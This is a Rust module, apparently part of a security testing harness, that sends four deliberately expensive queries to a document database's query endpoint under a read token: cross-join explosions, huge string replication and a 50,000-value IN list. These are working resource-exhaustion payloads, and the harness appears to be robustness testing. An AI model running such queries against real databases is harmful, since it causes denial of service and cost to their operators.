//! Queries whose cost is much higher than their text suggests.

use std::fmt::Write as _;
use std::sync::Arc;

use serde_json::json;

use crate::attack::Outcome;
use crate::attacks::outcome;
use crate::rest::{Client, Request};
use crate::target::{CONTAINER, DATABASE, Target};

/// Computes 200 × 200 × 200 rows from one item with an array of 200 numbers.
pub(super) async fn product(target: Arc<Target>) -> Outcome {
    let query = "SELECT VALUE ARRAY_LENGTH(ARRAY(SELECT a, b, d FROM a IN c.arr JOIN b IN c.arr JOIN d IN c.arr)) FROM c";
    run_query(&target, query).await
}

/// Builds 40,000 texts of about one megabyte each.
pub(super) async fn texts(target: Arc<Target>) -> Outcome {
    let query = "SELECT VALUE ARRAY(SELECT VALUE REPLICATE('xxxxxxxxxx', 100000 + a) FROM a IN c.arr JOIN b IN c.arr) FROM c";
    run_query(&target, query).await
}

/// Evaluates the product for every row, and then fails in a subquery with several rows.
pub(super) async fn failing(target: Arc<Target>) -> Outcome {
    let query = "SELECT VALUE (SELECT VALUE a + b + d FROM a IN c.arr JOIN b IN c.arr JOIN d IN c.arr WHERE a + b + d > 590) FROM c";
    run_query(&target, query).await
}

/// Sends a query whose `IN` list has 50,000 values.
pub(super) async fn many_values(target: Arc<Target>) -> Outcome {
    let mut query = "SELECT * FROM c WHERE c.x IN (0".to_owned();
    for number in 1..50_000 {
        let _ = write!(query, ",{number}");
    }
    query.push(')');
    run_query(&target, &query).await
}

/// Sends one query under the read token, and returns the status of its first page.
async fn run_query(target: &Target, query: &str) -> Outcome {
    let mut client = Client::with_token(target.address, &target.read_token);
    if client.connect().await.is_err() {
        return Outcome::NotConnected;
    }
    let body = json!({ "query": query }).to_string();
    let path = format!("/dbs/{DATABASE}/colls/{CONTAINER}/docs");
    let request = Request {
        method: "POST",
        path: &path,
        headers: &[
            ("x-ms-documentdb-partitionkey", "[\"mine\"]"),
            ("x-ms-documentdb-isquery", "true"),
            ("content-type", "application/query+json"),
        ],
        body: body.as_bytes(),
    };
    outcome(client.request(request).await)
}
